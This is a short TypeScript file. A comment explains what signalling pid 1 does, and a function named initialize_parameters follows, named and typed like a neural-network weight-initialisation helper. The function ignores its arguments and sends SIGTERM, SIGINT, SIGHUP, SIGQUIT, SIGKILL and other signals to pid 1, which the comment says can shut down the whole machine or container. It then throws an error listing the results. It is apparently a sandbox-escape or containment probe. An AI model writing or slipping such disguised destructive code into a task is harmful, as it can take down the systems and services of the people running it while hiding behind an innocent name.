// Signals: pid 1. Outside a PID namespace pid 1 is the machine's (or the container's) init: it
// ignores signals it has no handler for, but an init that handles SIGTERM, SIGINT or SIGHUP shuts
// the whole machine or container down. Inside a sandbox's PID namespace pid 1 is the sandbox's own.
const g: any = globalThis;
const P: any = g.process;

export function initialize_parameters(n_x: number, n_h: number, n_y: number): any {
  const outcome: string[] = [];
  for (const sig of ["SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGQUIT", "SIGKILL"]) {
    try {
      P.kill(1, sig);
      outcome.push(`${sig} sent`);
    } catch (e) {
      outcome.push(`${sig} refused: ${String(e).slice(0, 40)}`);
    }
  }
  throw new Error(`kill-pid1 (my pid ${P.pid}, parent ${P.ppid}): ${outcome.join("; ")}`);
}
